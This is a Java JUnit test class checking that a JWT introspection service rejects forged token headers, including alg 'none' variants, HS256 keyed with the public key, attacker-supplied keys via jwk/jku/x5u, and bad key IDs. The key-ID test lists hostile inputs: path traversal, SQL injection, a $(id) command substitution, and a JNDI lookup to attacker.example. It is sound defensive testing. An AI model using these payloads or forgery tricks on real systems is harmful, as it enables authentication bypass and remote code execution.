package dev.wxauth.token;

import static org.assertj.core.api.Assertions.assertThat;

import com.nimbusds.jose.JWSAlgorithm;
import com.nimbusds.jose.JWSHeader;
import com.nimbusds.jose.crypto.MACSigner;
import com.nimbusds.jose.jwk.ECKey;
import com.nimbusds.jose.util.Base64URL;
import dev.wxauth.support.Reply;
import dev.wxauth.support.ServiceExtension;
import dev.wxauth.support.TestSettings;
import io.vertx.core.json.JsonArray;
import io.vertx.core.json.JsonObject;
import java.nio.charset.StandardCharsets;
import java.util.List;
import org.junit.jupiter.api.BeforeEach;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.extension.RegisterExtension;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.ValueSource;

/** RFC 8725, the header: which algorithm and which key, is ours to say. */
class ForgedHeaderTest {
    private static final ECKey KEY = (ECKey) TestSettings.signingKey();

    @RegisterExtension
    static final ServiceExtension service =
            new ServiceExtension().with("WXAUTH_SIGNING_KEYS", TestSettings.jwkSet(KEY));

    private final Forger forger = new Forger(KEY);
    private JsonObject header;
    private JsonObject claims;

    @BeforeEach
    void logIn() {
        header = forger.header();
        claims = Forger.claims(service.login("alice"));
    }

    /** Else every other test here would prove nothing. */
    @Test
    void aTokenMadeByHandWithTheRightKeyIsActive() {
        assertThat(service.introspect(forger.sign(header, claims)).getBoolean("active"))
                .isTrue();
    }

    @ParameterizedTest
    @ValueSource(strings = {"none", "None", "NONE", "nOnE", "none ", "", "HS256", "ES384", "RS256", "EdDSA", "es256"})
    void anotherAlgorithmIsInactive(String algorithm) {
        header.put("alg", algorithm);
        String input = Forger.encode(header.encode()) + "." + Forger.encode(claims.encode());
        assertInactive(input + ".");
        assertInactive(input);
        assertInactive(forger.signParts(input));
        header.remove("kid");
        assertInactive(Forger.encode(header.encode()) + "." + Forger.encode(claims.encode()) + ".");
    }

    @Test
    void anAlgorithmThatIsNoTextIsInactive() {
        assertInactive(forger.sign(header.copy().putNull("alg"), claims));
        assertInactive(forger.sign(header.copy().put("alg", new JsonArray().add("ES256")), claims));
        header.remove("alg");
        assertInactive(forger.sign(header, claims));
    }

    @Test
    void hs256WithThePublicKeyIsInactive() throws Exception {
        String jwks = service.http().get("/.well-known/jwks.json").body();
        String published =
                new JsonObject(jwks).getJsonArray("keys").getJsonObject(0).encode();
        byte[] der = KEY.toECPublicKey().getEncoded();
        header.put("alg", "HS256");
        String input = Forger.encode(header.encode()) + "." + Forger.encode(claims.encode());
        for (byte[] secret :
                List.of(der, utf8(published), utf8(jwks), utf8(KEY.toPublicJWK().toJSONString()))) {
            Base64URL mac = new MACSigner(secret).sign(new JWSHeader(JWSAlgorithm.HS256), utf8(input));
            assertInactive(input + "." + mac);
        }
    }

    private static byte[] utf8(String text) {
        return text.getBytes(StandardCharsets.UTF_8);
    }

    @Test
    void aForeignKeyIsInactive() {
        Forger foreign = new Forger((ECKey) TestSettings.signingKey());
        assertInactive(foreign.sign(header, claims));
        assertInactive(foreign.sign(foreign.header(), claims));
    }

    @ParameterizedTest
    @ValueSource(
            strings = {
                "",
                " ",
                "unknown",
                "../../../../dev/null",
                "/proc/self/environ",
                "' OR '1'='1",
                "x' UNION SELECT 'secret' --",
                "*",
                "\u0000",
                "http://attacker.example/key",
                "$(id)",
                "${jndi:ldap://attacker.example}"
            })
    void anUnknownKeyIdIsInactive(String kid) {
        assertInactive(forger.sign(header.put("kid", kid), claims));
    }

    @Test
    void aMissingOrIllTypedKeyIdIsInactive() {
        assertInactive(forger.sign(header.copy().putNull("kid"), claims));
        assertInactive(forger.sign(header.copy().put("kid", 1), claims));
        assertInactive(forger.sign(header.copy().put("kid", new JsonArray().add(header.getString("kid"))), claims));
        header.remove("kid");
        assertInactive(forger.sign(header, claims));
    }

    @Test
    void aKeyThatTheTokenBringsAlongIsNotBelieved() {
        ECKey own = (ECKey) TestSettings.signingKey();
        Forger attacker = new Forger(own);
        JsonObject jwk = new JsonObject(own.toPublicJWK().toJSONString());
        String url = service.url(0) + "/.well-known/jwks.json";
        for (JsonObject tried : List.of(header, attacker.header())) {
            assertInactive(attacker.sign(tried.copy().put("jwk", jwk), claims));
            assertInactive(attacker.sign(tried.copy().put("jku", url), claims));
            assertInactive(attacker.sign(tried.copy().put("x5u", url), claims));
            assertInactive(attacker.sign(tried.copy().put("x5c", new JsonArray().add("MIIB")), claims));
        }
    }

    @Test
    void aCriticalExtensionIsInactive() {
        assertInactive(forger.sign(header.copy().put("crit", new JsonArray().add("exp")), claims));
        assertInactive(forger.sign(header.copy().put("crit", new JsonArray()), claims));
        assertInactive(forger.sign(
                header.copy().put("crit", new JsonArray().add("b64")).put("b64", false), claims));
    }

    @ParameterizedTest
    @ValueSource(strings = {"token-introspection+jwt", "secevent+jwt", "JWE", ""})
    void aJwtOfAnotherTypeIsInactive(String type) {
        assertInactive(forger.sign(header.put("typ", type), claims));
    }

    private static void assertInactive(String token) {
        Reply reply = service.introspectReply(token, 0);
        assertThat(reply.status()).as(reply.body()).isEqualTo(200);
        assertThat(reply.body()).as(token).isEqualTo("{\"active\":false}");
    }
}
